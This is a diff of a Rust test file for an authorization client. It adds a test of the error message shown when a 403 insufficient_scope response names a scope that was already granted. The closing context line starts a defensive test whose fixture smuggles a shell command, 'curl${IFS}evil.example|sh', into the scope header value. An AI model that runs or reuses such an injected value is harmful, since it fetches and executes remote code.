@@ -106,6 +106,17 @@ async fn what_is_not_taken_says_what_a_person_does() {
     }
 }
 
+/// Checklist 16: nobody is asked for ever.
+#[tokio::test]
+async fn a_scope_that_was_granted_is_not_asked_for_again() {
+    let lacks = r#"Bearer error="insufficient_scope", scope="read""#;
+    let answer = Answer::of(403, "").with_header("www-authenticate", lacks);
+    let desk = Desk::new(AuthorizationFlow::Redirect, [Say::Tokens("1")], [answer]).await;
+    let said = desk.try_token().await.unwrap_err().to_string();
+    assert!(said.contains("`read`, which the grant has already"), "{said}");
+    assert!(!said.contains("scopes"), "{said}");
+}
+
 #[tokio::test]
 async fn a_scope_that_a_shell_would_run_stands_in_no_command() {
     let lacks = r#"Bearer error="insufficient_scope", scope="files;curl${IFS}evil.example|sh""#;
